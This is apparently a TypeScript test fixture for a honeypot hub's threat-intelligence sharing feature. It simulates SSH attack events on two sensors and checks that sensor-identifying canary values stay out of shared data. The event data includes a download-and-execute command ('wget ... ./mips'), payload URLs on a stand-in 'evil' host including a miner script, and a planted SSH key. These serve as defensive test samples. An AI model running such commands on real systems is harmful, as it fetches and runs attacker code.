import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { findCampaigns, startHub, type ExtensionContext, type Hub } from '@skep/hub'
import { member, testStore } from '@skep/hub/testing'
import { logger, uuidv7 } from '@skep/vocabulary'
import { Share, sharing, type SharingOptions } from './sharing.ts'
import { setUp } from './taxii/setup.ts'
import { publish } from './taxii/publish.ts'

/** What tells where a sensor stands and whose it is: it must be in nothing that is shared. */
export const canary = {
  sensor: 'canary-straw',
  other: 'canary-reed',
  organisation: 'canary-host',
  address: '203.0.113.77',
  far: '2001:4860:0:ca::77',
}
/** What the test's attackers did. */
export const known = {
  attacker: '1.1.1.77',
  six: '2606:4700:4700::aaaa',
  scanner: '162.142.125.9',
  member: '8.8.8.8',
  forged: '9.9.9.9',
  url: 'http://5.5.5.5/bins/mips?a=b',
  host: 'evil.bins-host.com',
  named: 'http://evil.bins-host.com/x.sh',
  sha256: 'a'.repeat(63) + 'b',
  key: `SHA256:${'k'.repeat(43)}`,
  hassh: 'b12d2871a1189eff20364cf5333619ee',
  command: 'cd /tmp; wget http://5.5.5.5/bins/mips; chmod 777 mips; ./mips',
  private: 'mv ~/letters-to-mother /tmp',
}

/** A hub with sharing and a day of attacks on two sensors of two organisations. */
export async function sharingHub(
  more: Partial<Parameters<typeof startHub>[0]> = {},
  options: SharingOptions = {},
): Promise<{
  hub: Hub
  share: Share
  publish: (now?: number) => Promise<number>
  stop: () => Promise<void>
}> {
  const data = mkdtempSync(join(tmpdir(), 'skep-share-'))
  let context: ExtensionContext | undefined
  const hub = await startHub({
    data,
    ...(await testStore()),
    version: 'test',
    regular: false,
    extensions: [
      {
        name: 'share',
        start: (given) => {
          context = given
          return sharing(options).start(given)
        },
      },
    ],
    ...more,
  })
  await hub.ready
  if (context === undefined) throw new Error('sharing did not start')
  const share = await Share.open(context)
  const straws = [await member(hub, canary.sensor, canary.organisation), await member(hub, canary.other, 'elsewhere')]
  for (const [i, name] of [canary.sensor, canary.other].entries())
    await hub.relational.fleet.heard(name, {
      remote: i === 0 ? canary.address : canary.far,
      beat: JSON.stringify({ listeners: [`ssh ${i === 0 ? canary.address : `[${canary.far}]`}:22`] }),
    })
  const claim = await hub.relational.claims.request({
    organisation: 'member',
    resource: 'AS15169',
    method: 'operator',
    author: 'x',
    author_id: '',
  })
  await hub.relational.claims.settle(claim, 'proved', '', 86_400_000)

  for (const [i, straw] of straws.entries()) {
    const boot = uuidv7()
    let seq = 0
    const at = new Date(Date.now() - 7_200_000 + i * 1000).toISOString().replace('Z', '000Z')
    const from = (ip: string, transport = 'tcp') => {
      const session = uuidv7()
      return (kind: string, data: object) => ({
        id: uuidv7(),
        sensor: straw.name,
        boot,
        seq: seq++,
        time: at,
        session,
        service: 'ssh',
        transport,
        source: { ip, port: 4711 },
        target: { port: 22 },
        kind,
        data,
      })
    }
    const events = [known.attacker, known.six, known.scanner, known.member].flatMap((ip) => {
      const event = from(ip)
      return [
        event('session.open', {}),
        event('client.hello', { ident: 'SSH-2.0-Go', hassh: known.hassh }),
        event('auth.attempt', { method: 'password', user: 'root', secret: "12'34\\5", accepted: true }),
        event('command.run', { line: known.command }),
        event('command.run', { line: `ping ${canary.address}; echo [${canary.far}]` }),
        event('payload.seen', { url: known.url, decoded: 'plain' }),
        event('payload.seen', { url: known.named, decoded: 'plain' }),
        event('payload.seen', { url: 'https://raw.githubusercontent.com/x/y/miner.sh', decoded: 'plain' }),
        event('payload.seen', { url: `http://${canary.address}/x`, decoded: 'plain' }),
        event('payload.seen', { url: 'http://10.0.0.1/x', decoded: 'plain' }),
        event('key.planted', { fingerprint: known.key, path: '/root/.ssh/authorized_keys', key: 'ssh-rsa AAAA' }),
        event('artifact.stored', { sha256: known.sha256, size: 3000, name: 'mips' }),
      ]
    })
    const alone = from('1.1.1.78')
    if (i === 0) events.push(alone('session.open', {}), alone('command.run', { line: known.private }))
    // Another program on the same host, seen later, on the other sensor.
    if (i === 1) events.push(from(known.attacker)('payload.seen', { url: 'http://5.5.5.5/bins/arm', decoded: 'plain' }))
    const datagram = from(known.forged, 'udp')
    events.push(datagram('scan.probe', { protocol: 'any', size: 3 }))
    const { status, body } = await straw.deliver(boot, events)
    if (status !== 200 || JSON.stringify(body['rejected']) !== '[]') throw new Error(JSON.stringify(body))
  }
  await findCampaigns({ ...hub, log: logger('test', () => {}) })
  const collections = await setUp(share.taxii, share.ids)
  return {
    hub,
    share,
    publish: async (now) =>
      publish(
        {
          taxii: share.taxii,
          relational: hub.relational,
          author: await share.author(),
          sources: await share.sources(),
          collections,
        },
        now,
      ),
    stop: async () => {
      await hub.stop()
      rmSync(data, { recursive: true, force: true })
    },
  }
}
